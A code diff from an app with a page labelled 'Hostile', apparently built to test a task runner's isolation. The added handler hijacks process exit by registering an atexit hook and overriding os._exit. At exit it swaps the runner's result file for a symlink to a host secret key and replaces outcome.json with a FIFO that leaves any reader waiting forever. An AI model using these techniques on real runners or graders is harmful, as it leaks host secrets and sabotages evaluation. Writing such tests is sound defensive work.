@@ -151,16 +151,25 @@ app.page("Hostile", [Field(report), Button(inspect), Button(inspect_solve)])
 
 @app.solve(title="Swap the result for a link")
 def swap_result(data, ctx):
-    """At exit, after the runner wrote result.case: replace it by a link to a host secret."""
+    """At exit, after the runner wrote result.case: replace it by a link to a host secret (the
+    runner ends with os._exit, past atexit: the app takes that over too)."""
     import atexit
 
     def swap() -> None:
-        os.remove("result.case")
-        os.symlink(TARGETS["read"]["secret key"], "result.case")
-        os.remove("outcome.json")
-        os.mkfifo("outcome.json")  # whoever opens it to read waits for a writer that never comes
+        if not os.path.islink("result.case"):
+            os.remove("result.case")
+            os.symlink(TARGETS["read"]["secret key"], "result.case")
+            os.remove("outcome.json")
+            os.mkfifo("outcome.json")  # whoever opens it to read waits for a writer that never comes
+
+    exit_now = os._exit
+
+    def swap_then_exit(code: int) -> None:
+        swap()
+        exit_now(code)
 
     atexit.register(swap)
+    os._exit = swap_then_exit
     data["report"] = "the result will be a link"
 
 
